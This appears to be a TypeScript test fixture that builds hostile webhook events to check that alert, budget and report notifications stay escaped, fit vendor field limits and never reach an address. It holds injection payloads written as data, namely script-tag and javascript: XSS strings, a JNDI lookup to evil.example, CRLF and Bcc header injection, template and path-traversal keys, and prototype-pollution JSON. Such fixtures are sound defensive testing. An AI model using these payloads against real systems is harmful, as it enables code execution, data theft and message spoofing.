// Events that nobody would write and somebody will send: what is in them must stay text, fit the vendor's fields, and never
// reach an address.

import type { Json } from "../../../src/kernel/canonical-json.ts";
import type { EventType, WebhookEvent } from "../../../src/webhooks/index.ts";
import { exampleOf } from "./golden.ts";

const INJECTION = [
  "<!channel> <!here> <@U0001> <users/all> @everyone @here @all @channel @slack-ops #1 !1 &1",
  "[click](javascript:alert(1)) ![x](https://evil.example/x.png) *bold* _it_ ~no~ `code` ```\n# heading",
  "\n/close\n/assign @root\n> quote\n- item\n1. item\n    code",
  "</pre></p><script>alert(1)</script><img src=x onerror=alert(1)> &lt;b&gt; &#60; \"quoted\" 'single' \\ backslash",
  "\r\nBcc: victim@example.com\r\n\r\nbody {{7*7}} ${jndi:ldap://evil.example/a} {title} {settings.token} %0d%0a",
  "\u0000\u0007\u001b[31m\u007f\u0085\u2028\u2029\u202e\u2066\ufeff end",
].join("\n");

const ASTRAL = "😀".repeat(14_000);
const WIDE = "漢".repeat(15_000);

/** As many bytes as an event may have, in texts that grow when they are escaped. */
const TEXTS: Readonly<Record<string, string>> = {
  injection: INJECTION,
  "injection, twenty times": INJECTION.repeat(20),
  "a very long line": "A".repeat(60_000),
  "wide characters": WIDE,
  "surrogate pairs": ASTRAL,
  "half a surrogate": "\ud800x\udc00".repeat(5_000),
  "signs that escape to six": "\"&<>'".repeat(8_000),
  "signs that escape to two": "\\*_".repeat(10_000),
  newlines: "\n".repeat(30_000),
  controls: "\u0001".repeat(9_000),
  spaces: " ".repeat(1_000),
  nothing: "",
};

const DATA: Readonly<Record<string, Json>> = {
  ...Object.fromEntries(
    Object.entries(TEXTS).map(([name, text]) => [
      name,
      { name: text, severity: text.slice(0, 20), labels: { a: 1 } },
    ]),
  ),
  ...Object.fromEntries(
    Object.entries(TEXTS).map(([name, text]) => [`${name}, as a name`, { [text.slice(0, 500)]: "x" }]),
  ),
  "no members": {},
  null: null,
  "a text": INJECTION,
  "a number": 42,
  "a list": [1, "two", [3]],
  "members that are missing": { name: null, severity: 3, labels: [] },
  "many members": Object.fromEntries(
    Array.from({ length: 900 }, (_, index) => [`m${index}`, INJECTION.slice(0, 40)]),
  ),
  "many members of a member": {
    labels: Object.fromEntries(Array.from({ length: 900 }, (_, at) => [`l${at}`, "x"])),
  },
  deep: JSON.parse(`${"[".repeat(400)}${"]".repeat(400)}`) as Json,
  "its own prototype": JSON.parse('{"__proto__":{"name":"x"},"constructor":"y","toString":"z"}') as Json,
  "a script for a link": { url: "javascript:alert(1)" },
  "a link with a password": { url: "https://user:secret@evil.example/" },
  "a long link": { url: `https://example.com/${"a".repeat(5_000)}` },
  "a link that breaks out": { url: 'https://example.com/"><script>|<@U1>)' },
};

const KEYS = [
  "",
  ".",
  "..",
  "../../admin",
  "a/b?c=d#e@evil.example",
  "\r\nx: y",
  "漢".repeat(500),
  "x".repeat(5_000),
  null,
];
const TYPES: readonly EventType[] = [
  "alert.firing",
  "alert.resolved",
  "budget.threshold_reached",
  "report.ready",
];

export const HOSTILE_EVENTS: readonly (readonly [string, WebhookEvent])[] = [
  ...Object.entries(DATA).flatMap(([name, data]) =>
    TYPES.map((type) => [`${type} with ${name}`, exampleOf(type, { data })] as const),
  ),
  ...TYPES.flatMap((type) =>
    KEYS.map(
      (key) => [`${type} about ${JSON.stringify(key)?.slice(0, 30)}`, exampleOf(type, { key })] as const,
    ),
  ),
];
